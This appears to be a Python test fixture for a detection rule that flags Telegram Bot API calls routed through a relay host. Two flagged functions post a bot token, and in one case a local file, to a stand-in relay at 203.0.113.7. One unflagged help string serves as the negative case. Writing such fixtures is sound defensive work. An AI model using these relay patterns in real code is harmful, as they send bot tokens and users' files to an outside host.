# Fixture for generic-telegram-token-relay-host (Python).
# RULEID: concatenated and f-string Bot API URLs on a relay host.
# OK: a help string; a docs link.
import requests

RELAY = "http://203.0.113.7:8443"
DOCS = "https://core.example/docs/bots"


def notify(token, chat_id, text):
    # ruleid: generic-telegram-token-relay-host
    url = RELAY + "/bot" + token + "/sendMessage"
    requests.post(url, data={"chat_id": chat_id, "text": text}, timeout=10)


def upload(token, chat_id, path):
    # ruleid: generic-telegram-token-relay-host
    requests.post(f"{RELAY}/bot{token}/sendDocument", data={"chat_id": chat_id}, files={"document": open(path, "rb")})


def usage():
    # ok: generic-telegram-token-relay-host
    return "use /bot to talk to the assistant, see " + DOCS
